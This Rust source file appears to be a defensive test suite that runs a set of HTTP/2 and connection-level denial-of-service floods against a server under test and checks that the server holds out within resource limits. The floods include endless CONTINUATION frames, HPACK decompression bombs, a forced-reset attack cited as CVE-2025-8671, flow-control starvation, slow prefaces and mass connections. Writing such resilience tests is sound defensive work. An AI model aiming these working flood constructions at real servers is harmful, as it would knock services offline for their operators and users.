//! Floods of HTTP/2 frames, and of connections that do not get as far as a frame.

use super::attack::{data, Attack};
use super::cases::{await_close, plain, silent_sockets, trickle, SECOND};
use super::common::http2::*;
use super::victim::{Over, HELD, PULL};
use super::{hold_out, Case, HTTP2_MIB};
use crate::for_each_victim;
use std::io::{Result, Write};

for_each_victim!(
    http2:
    header_blocks_without_end,
    header_blocks_that_stay_open,
    header_lists_that_grow_when_decompressed,
    settings_that_are_not_read,
    settings_with_many_entries,
    pings_that_are_not_read,
    resets_that_the_server_is_made_to_send,
    streams_above_the_limit_without_an_acknowledgement,
    empty_data_frames,
    data_frames_of_one_byte,
    windows_of_one_byte,
    windows_that_are_withheld,
    priorities_and_unknown_frames,
    streams_after_a_goaway,
    a_slow_preface,
    thousands_of_connections_from_one_address,
    text_and_noise_instead_of_tls,
    connections_without_alpn,
    long_messages_that_trickle,
    compressed_messages,
    messages_that_nobody_takes,
    long_messages_over_many_connections,
);

/// What most floods may cost: a frame at a time takes little.
const CASE: Case = Case {
    what: "",
    by: 2,
    attack: |_| Ok(()),
    times: 1000,
    mib: 128,
    http2_mib: HTTP2_MIB,
    threads: 300,
    descriptors: 64,
    quota: None,
};

/// Repeats these bytes on a new connection until it ends, and counts each repetition as `count`. Nothing is read.
fn flood(attack: &Attack, bytes: &[u8], count: u64) -> Result<()> {
    let mut connection = attack.connect(&attack.member)?;
    loop {
        connection.raw(bytes)?;
        (0..count).for_each(|_| attack.did());
        if attack.is_over() {
            return Ok(());
        }
    }
}

fn header_blocks_without_end(over: Over) {
    hold_out(
        over,
        &Case {
            what: "CONTINUATION without end (frames of 1 KiB)",
            attack: |attack| {
                let mut connection = attack.connect(&attack.member)?;
                let stream = connection.number_of_next();
                connection.frame(HEADERS, 0, stream, &literal(0))?;
                let part = frame(CONTINUATION, 0, stream, &field("x", &"y".repeat(120)).repeat(8));
                while !attack.is_over() {
                    connection.raw(&part)?;
                    attack.did();
                }
                Ok(())
            },
            times: 5000,
            ..CASE
        },
    );
}

fn header_blocks_that_stay_open(over: Over) {
    hold_out(
        over,
        &Case {
            what: "header blocks that never end: 200 connections",
            attack: |attack| {
                let mut all = Vec::new();
                for _ in 0..100 {
                    let mut connection = attack.connect(&attack.member)?;
                    let stream = connection.number_of_next();
                    connection.frame(HEADERS, 0, stream, &field("x", &"y".repeat(120)).repeat(100))?;
                    attack.did();
                    all.push(connection);
                }
                all.iter_mut().for_each(|connection| connection.await_close());
                Ok(())
            },
            times: 200,
            descriptors: 210,
            ..CASE
        },
    );
}

fn header_lists_that_grow_when_decompressed(over: Over) {
    hold_out(
        over,
        &Case {
            what: "HPACK: 4 KiB in the table, 8,000 references to it",
            attack: |attack| {
                let mut connection = attack.connect(&attack.member)?;
                let stream = connection.number_of_next();
                // With indexing, a value of 3,900 bytes: the length in seven bits and a continuation (RFC 7541, 5.1).
                let length = [127, ((3900 - 127) % 128) as u8 | 0x80, ((3900 - 127) / 128) as u8];
                let entry = [&[0x40, 1, b'x'], &length[..], &[b'y'; 3900]].concat();
                let mut block = [literal(0), entry].concat();
                // The newest entry of the table is number 62.
                block.extend_from_slice(&[0x80 | 62; 8000]);
                connection.frame(HEADERS, END_HEADERS, stream, &block)?;
                attack.did();
                connection.await_close();
                Ok(())
            },
            times: 100,
            ..CASE
        },
    );
}

fn settings_that_are_not_read(over: Over) {
    hold_out(
        over,
        &Case {
            what: "SETTINGS, the acknowledgements not read (frames)",
            attack: |attack| flood(attack, &frame(SETTINGS, 0, 0, &[]).repeat(100), 100),
            times: 20_000,
            ..CASE
        },
    );
}

fn settings_with_many_entries(over: Over) {
    hold_out(
        over,
        &Case {
            what: "SETTINGS of 2,700 entries (frames)",
            attack: |attack| flood(attack, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255].repeat(2700)), 1),
            times: 500,
            ..CASE
        },
    );
}

fn pings_that_are_not_read(over: Over) {
    hold_out(
        over,
        &Case {
            what: "PING, the answers not read (frames)",
            attack: |attack| flood(attack, &frame(PING, 0, 0, &[7; 8]).repeat(100), 100),
            times: 20_000,
            ..CASE
        },
    );
}

fn resets_that_the_server_is_made_to_send(over: Over) {
    hold_out(
        over,
        &Case {
            what: "streams that the server is made to reset (CVE-2025-8671)",
            attack: |attack| {
                let mut connection = attack.connect(&attack.member)?;
                let mut out = Vec::new();
                for _ in 0..1000 {
                    let stream = connection.number_of_next();
                    add_frame(&mut out, HEADERS, END_HEADERS, stream, &literal(0));
                    // An increment of zero is an error of the stream (RFC 9113, 6.9), and so is a frame after its end.
                    add_frame(&mut out, WINDOW_UPDATE, 0, stream, &[0; 4]);
                }
                // It may end already while this is written.
                let _ = connection.raw(&out);
                (0..1000).for_each(|_| attack.did());
                connection.await_close();
                Ok(())
            },
            times: 20_000,
            mib: 400,
            threads: 600,
            ..CASE
        },
    );
}

fn streams_above_the_limit_without_an_acknowledgement(over: Over) {
    hold_out(
        over,
        &Case {
            what: "streams above the limit, which is not acknowledged",
            attack: |attack| {
                let mut connection = attack.connect(&attack.member)?;
                while !attack.is_over() {
                    let mut out = Vec::new();
                    for _ in 0..100 {
                        let stream = connection.number_of_next();
                        add_frame(&mut out, HEADERS, END_HEADERS, stream, &literal(0));
                        attack.did();
                    }
                    connection.raw(&out)?;
                }
                Ok(())
            },
            times: 5000,
            mib: 400,
            threads: 600,
            ..CASE
        },
    );
}

/// Opens a stream and repeats these frames on it, made from its number. What comes back is read after each batch.
fn flood_stream(attack: &Attack, frames: fn(u32) -> Vec<u8>, count: u64) -> Result<()> {
    let mut connection = attack.connect(&attack.member)?;
    let stream = connection.open()?;
    let out = frames(stream);
    while !attack.is_over() {
        connection.raw(&out)?;
        (0..count).for_each(|_| attack.did());
        connection.read(Some(std::time::Duration::from_micros(1)))?;
    }
    Ok(())
}

fn empty_data_frames(over: Over) {
    hold_out(
        over,
        &Case {
            what: "empty DATA frames",
            attack: |attack| flood_stream(attack, |stream| frame(DATA, 0, stream, &[]).repeat(1000), 1000),
            times: 100_000,
            ..CASE
        },
    );
}

fn data_frames_of_one_byte(over: Over) {
    hold_out(
        over,
        &Case {
            what: "DATA frames of one byte: first messages of no bytes",
            attack: |attack| flood_stream(attack, |stream| frame(DATA, 0, stream, &[0]).repeat(1000), 1000),
            times: 20_000,
            ..CASE
        },
    );
}

/// Authenticates with this initial window and asks for more than it takes.
fn starve(attack: &Attack, window: u32, update: bool) -> Result<()> {
    let (mut connection, stream) = attack.authenticate(&attack.org.peer(&attack.name()).unwrap())?;
    connection.takes = false;
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat();
    connection.frame(SETTINGS, 0, 0, &setting)?;
    connection.message(stream, &data(PULL, 10))?;
    while !attack.is_over() {
        if update {
            connection.raw(&frame(WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes()).repeat(100))?;
            connection.raw(&frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()).repeat(100))?;
        }
        attack.did();
        connection.read(SECOND.map(|second| second / 100))?;
    }
    Ok(())
}

fn windows_of_one_byte(over: Over) {
    hold_out(
        over,
        &Case {
            what: "an answer in windows of one byte",
            by: 4,
            attack: |attack| starve(attack, 1, true),
            times: 200,
            mib: 400,
            ..CASE
        },
    );
}

fn windows_that_are_withheld(over: Over) {
    hold_out(
        over,
        &Case {
            what: "answers without any window: 10 connections",
            by: 10,
            attack: |attack| starve(attack, 0, false),
            times: 200,
            mib: 800,
            // The application fills ten queues of messages.
            http2_mib: 200,
            ..CASE
        },
    );
}

fn priorities_and_unknown_frames(over: Over) {
    hold_out(
        over,
        &Case {
            what: "PRIORITY and unknown frames",
            attack: |attack| {
                let both = [frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 7]), frame(250, 0, 0, b"unknown")].concat();
                flood(attack, &both.repeat(500), 1000)
            },
            times: 100_000,
            ..CASE
        },
    );
}

fn streams_after_a_goaway(over: Over) {
    hold_out(
        over,
        &Case {
            what: "GOAWAY, and then 50 streams",
            attack: |attack| {
                let mut connection = attack.connect(&attack.member)?;
                connection.frame(GOAWAY, 0, 0, &[0; 8])?;
                let streams: Vec<_> = (0..50).map(|_| connection.open()).collect::<Result<_>>()?;
                (0..50).for_each(|_| attack.did());
                streams.into_iter().try_for_each(|stream| connection.await_end(stream))
            },
            times: 200,
            ..CASE
        },
    );
}

fn a_slow_preface(over: Over) {
    hold_out(
        over,
        &Case {
            what: "one byte a second of the preface: 50 connections",
            by: 50,
            attack: |attack| {
                let mut tls = attack.hold(tls(&attack.endpoint, Some(&attack.member))?, |tls| tls.get_ref())?;
                tls.get_ref().set_read_timeout(SECOND)?;
                trickle(&mut *tls, PREFACE, || attack.did())
            },
            times: 150,
            ..CASE
        },
    );
}

fn thousands_of_connections_from_one_address(over: Over) {
    hold_out(
        over,
        &Case {
            what: "2,000 TCP connections from one address",
            by: 4,
            attack: silent_sockets,
            times: 2000,
            mib: 128,
            descriptors: 2010,
            ..CASE
        },
    );
}

fn text_and_noise_instead_of_tls(over: Over) {
    hold_out(
        over,
        &Case {
            what: "HTTP/1.1, HTTP/2 in plain text, and noise to the TLS port",
            attack: |attack| {
                let noise: Vec<u8> = (0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
                let record = [&[22, 3, 3, 16, 0], &noise[..]].concat();
                for bytes in [b"GET / HTTP/1.1\r\nHost: h\r\n\r\n", PREFACE, &noise, &record] {
                    let mut socket = plain(attack)?;
                    socket.write_all(bytes)?;
                    await_close(&mut socket);
                    attack.did();
                }
                Ok(())
            },
            times: 400,
            ..CASE
        },
    );
}

fn connections_without_alpn(over: Over) {
    hold_out(
        over,
        &Case {
            what: "TLS without ALPN, and with HTTP/1.1",
            attack: |attack| {
                for protocols in [&b""[..], b"\x08http/1.1"] {
                    if let Ok(tls) = tls_offering(&attack.endpoint, Some(&attack.member), protocols) {
                        await_close(&mut attack.hold(tls, |tls| tls.get_ref())?.get_ref().try_clone()?);
                    }
                    attack.did();
                }
                Ok(())
            },
            times: 100,
            ..CASE
        },
    );
}

/// Announces a message of this length, sends a part, and then a byte each time the other side is silent.
fn trickle_message(attack: &Attack, length: u32, part: usize) -> Result<()> {
    let (mut connection, stream) = attack.authenticate(&attack.org.peer(&attack.name()).unwrap())?;
    connection.send(stream, &announcement(length))?;
    for piece in vec![7; part].chunks(64 << 10) {
        connection.send(stream, piece)?;
        if attack.is_over() {
            return Ok(());
        }
    }
    while !attack.is_over() && !connection.ended.contains(&stream) {
        connection.send(stream, &[7])?;
        attack.did();
        connection.read(SECOND.map(|second| second / 10))?;
    }
    Ok(())
}

fn long_messages_that_trickle(over: Over) {
    hold_out(
        over,
        &Case {
            what: "100 MiB announced, then a byte at a time: 50 connections",
            by: 50,
            attack: |attack| trickle_message(attack, 100 << 20, 1),
            times: 500,
            ..CASE
        },
    );
}

fn compressed_messages(over: Over) {
    hold_out(
        over,
        &Case {
            what: "compressed first messages",
            attack: |attack| {
                let mut connection = attack.connect(&attack.member)?;
                for _ in 0..10 {
                    let stream = connection.open()?;
                    connection.send(stream, &[1, 0, 0, 0, 4, 1, 2, 3, 4])?;
                    attack.did();
                    connection.await_end(stream)?;
                }
                Ok(())
            },
            times: 200,
            ..CASE
        },
    );
}

fn messages_that_nobody_takes(over: Over) {
    hold_out(
        over,
        &Case {
            what: "64 KiB messages that the application does not take",
            by: 4,
            attack: |attack| {
                let (mut connection, stream) = attack.authenticate(&attack.org.peer(&attack.name()).unwrap())?;
                let message = data(HELD, 64 << 10);
                while !attack.is_over() {
                    connection.message(stream, &message)?;
                    attack.did();
                }
                Ok(())
            },
            times: 200,
            mib: 400,
            ..CASE
        },
    );
}

fn long_messages_over_many_connections(over: Over) {
    hold_out(
        over,
        &Case {
            what: "8 MiB of 100 on each of 32 connections, with a quota of 24 MiB",
            by: 32,
            attack: |attack| trickle_message(attack, 100 << 20, 8 << 20),
            times: 0,
            mib: 1200,
            threads: 300,
            quota: Some(24),
            ..CASE
        },
    );
}
